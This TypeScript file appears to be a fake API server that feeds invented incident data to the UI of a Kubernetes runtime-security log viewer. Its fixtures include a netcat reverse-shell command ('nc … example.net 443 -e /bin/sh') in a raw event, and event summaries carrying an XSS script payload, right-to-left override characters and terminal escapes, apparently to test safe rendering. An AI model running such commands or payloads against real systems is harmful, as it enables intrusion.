import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { casesAnswer } from '@forebear/model/wire/cases';
import { conversationsAnswer } from '@forebear/model/wire/conversations';
import { type EventItem, eventsAnswer, histogramAnswer } from '@forebear/model/wire/events';
import { nodesAnswer, podsAnswer } from '@forebear/model/wire/inventory';
import { destinationsAnswer, lateralAnswer } from '@forebear/model/wire/network';
import {
  quarantineAnswer,
  type Source,
  sourceAnswer,
  sourcesAnswer,
} from '@forebear/model/wire/sources';
import { conversations } from './fakeConversations.ts';
import {
  crawlerConnections,
  crawlerProcesses,
  searchConnections,
  searchProcesses,
} from './fakeCrawler.ts';
import { at, complete, crawler, destinations, partial, pods, search, sources } from './fakeData.ts';
import { hops } from './fakeHops.ts';
import { fakeProcess } from './fakeProcess.ts';
import { fakeTree, refOf } from './fakeTree.ts';

/**
 * An API with invented answers, for looking at pages before there is a server. Cases: `ir-114` (everything), `default`
 * (empty), `flows` (flows without processes), `many` (three thousand pods), `broken` (every question fails), `slow` (answers after 20 s).
 */
export function fakeApi(): Server {
  const received = new Map<string, Source>();
  return createServer((request, response) => {
    void answer(request, response, received);
  });
}

async function answer(
  request: IncomingMessage,
  response: ServerResponse,
  received: Map<string, Source>,
) {
  const url = new URL(request.url ?? '/', 'http://fake');
  const path = url.pathname.replace('/api/v1', '');
  const caseName = url.searchParams.get('case') ?? 'default';
  const send = (status: number, body: unknown) => {
    response.writeHead(status, { 'Content-Type': 'application/json' });
    response.end(JSON.stringify(body));
  };
  const fail = (status: number, code: string, message: string, details?: object) =>
    send(status, {
      error: { code, message, retryable: status >= 500, ...(details && { details }) },
    });

  if (path === '/cases') return send(200, casesAnswer.parse(cases()));
  if (path.startsWith('/samples/')) return send(201, { source: sources[1] });
  if (caseName === 'broken') return fail(500, 'internal', 'the database file could not be read');
  if (caseName === 'slow') await new Promise((resolve) => setTimeout(resolve, 20_000));
  if (path === '/sources' && request.method === 'POST') {
    return receive(request, url, received, send, fail);
  }
  if (path.endsWith('/cancel')) return send(200, { source: sources[1] });
  if (path.endsWith('/quarantine')) return send(200, quarantineAnswer.parse(quarantine()));
  const empty = caseName === 'default';
  const list = (items: readonly unknown[], state: object = complete) => ({
    items: empty ? [] : items,
    nextCursor: null,
    total: empty ? 0 : items.length,
    completeness: state,
  });
  const filter = url.searchParams.get('filter') ?? '';
  if (
    /[=(]/.test(filter) &&
    !/^\S+\s*(=|contains)\s*\S+(\s+and\s+\S+\s*(=|contains)\s*\S+)*$/.test(filter)
  ) {
    return fail(400, 'bad_filter', 'expected a value after "="', { position: filter.length });
  }
  const matches = (text: string) =>
    text.toLowerCase().includes(filter.replace(/^.*[= ]\s*/, '').toLowerCase());
  if (path === '/sources') {
    return send(200, sourcesAnswer.parse(list([...received.values(), ...sources], partial)));
  }
  const one = /^\/sources\/([^/]+)$/.exec(path);
  if (one) {
    const found = received.get(one[1] ?? '');
    return found
      ? send(200, sourceAnswer.parse({ source: found }))
      : fail(404, 'unknown_source', 'no such source');
  }
  if (path === '/pods') {
    const shown = pods.filter((pod) => matches(`${pod.namespace}/${pod.pod}`));
    if (caseName === 'many') {
      const from = Number(url.searchParams.get('cursor') || 0);
      return send(200, podsAnswer.parse(podPage(from)));
    }
    return send(200, podsAnswer.parse(list(caseName === 'flows' ? [] : shown, partial)));
  }
  if (path === '/nodes') return send(200, nodesAnswer.parse(list(nodes(), partial)));
  if (path === '/destinations') {
    return send(
      200,
      destinationsAnswer.parse(list(destinations.filter((d) => matches(`${d.name} ${d.ip}`)))),
    );
  }
  if (path === '/events' || /^\/processes\/[^/]+\/events$/.test(path)) {
    return send(
      200,
      eventsAnswer.parse(eventPage(Number(url.searchParams.get('cursor') || 0), empty)),
    );
  }
  if (path.endsWith('/raw')) {
    response.writeHead(200, { 'Content-Type': 'text/plain' });
    return response.end(
      JSON.stringify({
        process_exec: {
          process: {
            exec_id: 'ZmFrZQ',
            pid: 21154,
            binary: '/usr/bin/nc',
            arguments: 'x7f3q-9k2lw0.example.net 443 -e /bin/sh \u202E',
          },
        },
        node_name: 'kind-control-plane',
        time: at(302_902),
      }),
    );
  }
  if (path.startsWith('/processes/'))
    return send(200, fakeProcess(decodeURIComponent(path.slice(11))));
  if (path === '/tree') {
    const name = url.searchParams.get('pod');
    if (name === search.pod) return send(200, fakeTree(search, searchProcesses, searchConnections));
    if (name !== null && name !== crawler.pod)
      return fail(404, 'unknown_pod', `no pod ${name} in this case`);
    return send(200, fakeTree(crawler, crawlerProcesses, crawlerConnections));
  }
  if (path === '/histogram') return send(200, histogramAnswer.parse(histogram()));
  if (path === '/lateral') {
    return send(200, lateralAnswer.parse(list(caseName === 'flows' ? [] : hops)));
  }
  if (path === '/conversations') {
    return send(200, conversationsAnswer.parse({ ...list(conversations), leftOut: 0 }));
  }
  if (path === '/stream') return stream(response, caseName);
  return fail(404, 'unknown_route', `no ${path}`);
}

/** Three thousand pods, a thousand to a page. */
function podPage(from: number) {
  const items = Array.from({ length: 1_000 }, (_, place) => ({
    ...search,
    pod: `worker-${from + place}`,
    uid: `worker-${from + place}`,
    processes: 1,
  }));
  const to = from + items.length;
  return {
    items,
    nextCursor: to < 3_000 ? String(to) : null,
    total: 3_000,
    completeness: complete,
  };
}

function cases() {
  const none = {
    sources: 0,
    sizeBytes: 40_960,
    events: 0,
    processes: 0,
    firstTime: null,
    lastTime: null,
  };
  const full = {
    sources: 2,
    sizeBytes: 88_120_394,
    events: 128_384,
    processes: 61_204,
    firstTime: at(0),
    lastTime: at(900_000),
  };
  const items = [
    { name: 'default', ...none },
    { name: 'ir-114', ...full },
    { name: 'flows', ...full, processes: 0 },
    { name: 'broken', ...none },
    { name: 'slow', ...none },
    { name: 'many', ...full },
  ];
  return { items, nextCursor: null, total: items.length };
}

function receive(
  request: IncomingMessage,
  url: URL,
  received: Map<string, Source>,
  send: (status: number, body: unknown) => void,
  fail: (status: number, code: string, message: string, details?: object) => void,
) {
  const name = url.searchParams.get('name') ?? 'file';
  const id = url.searchParams.get('id') ?? 'id';
  const base = sources[1];
  if (base === undefined) return;
  let bytes = 0;
  request.on('data', (chunk: Buffer) => {
    bytes += chunk.length;
    const events = Math.round(bytes / 700);
    received.set(id, {
      ...base,
      id,
      name,
      state: 'receiving',
      bytesReceived: bytes,
      sha256: null,
      finishedAt: null,
      ledger: { ...base.ledger, in: events, stored: events - 3, events, quarantined: 3 },
    });
  });
  request.on('end', () => {
    if (name.endsWith('.png')) {
      received.delete(id);
      return fail(
        422,
        'not_a_log',
        `${name} is a PNG image, not a log of a runtime-security agent`,
        {
          detected: 'PNG image',
          lines: ['\u0089PNG\r', 'IHDR\u0000\u0000\u0000\u0010', '{ not json'],
          expected: 'NDJSON of Tetragon or Hubble Enterprise, plain or as .gz, .zst, .tar, .zip',
        },
      );
    }
    const now = received.get(id) ?? { ...base, id, name };
    const source = {
      ...now,
      state: 'complete' as const,
      sha256: 'ab'.repeat(32),
      finishedAt: at(1_200_000),
    };
    received.set(id, source);
    send(201, { source });
  });
}

function quarantine() {
  const items = Array.from({ length: 37 }, (_, i) => ({
    offset: 120_331 + i * 9_120,
    length: 812 + i,
    line: 400 + i * 31,
    member: 'fgs-2026-03-14.log',
    reason: i % 5 === 0 ? 'exec_id is no base64 of node:ktime:pid' : 'ends inside a string',
    sample: `{"process_exec":{"process":{"exec_id":"a2luZC1j…","arguments":"echo { \u202E\u001B[2J ${i}`,
  }));
  return { items, nextCursor: null, total: 37 };
}

function nodes() {
  return ['kind-control-plane', 'kind-worker'].map((node) => ({
    cluster: 'kind-lab',
    node,
    agents: ['tetragon'],
    kinds: { process_exec: 2101, process_exit: 2090 },
    events: 64_192,
    rate: 12.4,
    firstEvent: at(-3_600_000),
    lastEvent: at(900_000),
    gaps: sources[0]?.gaps.filter((gap) => gap.node === node) ?? [],
  }));
}

const KINDS = ['exec', 'exit', 'connect', 'close', 'dns'];

function eventPage(from: number, empty: boolean) {
  const total = empty ? 0 : 12_384;
  const count = Math.min(200, Math.max(0, total - from));
  const items = Array.from({ length: count }, (_, i): EventItem => {
    const n = from + i;
    const kind = KINDS[n % KINDS.length] ?? 'exec';
    const hostile = n % 17 === 3;
    return {
      id: `e${n}`,
      time: n % 97 === 5 ? null : at(n * 73.381),
      kind,
      label: `process_${kind}`,
      process: {
        ref: refOf(crawler.pod, n % crawlerProcesses.length),
        binary: crawlerProcesses[n % crawlerProcesses.length]?.binary ?? '',
        arguments: crawlerProcesses[n % crawlerProcesses.length]?.args ?? '',
        pid: 21_000 + n,
      },
      pod: { namespace: crawler.namespace, name: crawler.pod },
      node: 'kind-control-plane',
      summary: hostile
        ? 'echo \u202Egnp.exe\u202C \u001B[31m </td><script>alert(1)</script>'
        : `${kind} of pid ${21_000 + n}`,
      source: 'incident/fgs-2026-03-14.log.gz',
      policy: null,
      file: null,
      rule: null,
      agent: 'tetragon',
      sameAs: n % 41 === 7,
    };
  });
  return {
    items,
    nextCursor: from + count < total ? String(from + count) : null,
    total,
    completeness: partial,
  };
}

function histogram() {
  const buckets = 240;
  const series = (f: (i: number) => number) =>
    Array.from({ length: buckets }, (_, i) => Math.round(f(i)));
  return {
    from: at(0),
    to: at(600_000),
    completeness: partial,
    widthMs: 2500,
    exec: series((i) => Math.max(0, 30 - i * 3, i % 4 === 0 ? 3 : 0)),
    network: series((i) => 4 + (i > 120 && i < 150 ? 14 : 0)),
    dns: series((i) => (i % 9 === 0 ? 2 : 0)),
    file: series(() => 0),
    other: series((i) => (i % 30 === 0 ? 1 : 0)),
    loud: [302_373, 302_902, 331_020, 351_400].map((ms, i) => ({
      time: at(ms),
      ref: refOf(crawler.pod, 21 + i),
    })),
    gaps: [
      {
        kind: 'throttle',
        node: 'kind-control-plane',
        from: at(120_000),
        to: at(130_000),
        count: 412,
      },
    ],
  };
}

function stream(response: ServerResponse, caseName: string) {
  response.writeHead(200, { 'Content-Type': 'text/event-stream' });
  let version = 1;
  const tick = () => {
    const ledger = sources[0]?.ledger;
    const stats = {
      case: caseName,
      version,
      eventsPerSecond: caseName === 'ir-114' ? 412 : 0,
      lagMs: caseName === 'ir-114' ? 812 : null,
      ledger,
      newestTime: at(900_000),
    };
    response.write(`id: ${version}\nevent: stats\ndata: ${JSON.stringify(stats)}\n\n`);
    version += 1;
  };
  tick();
  const timer = setInterval(tick, 1000);
  response.on('close', () => clearInterval(timer));
}
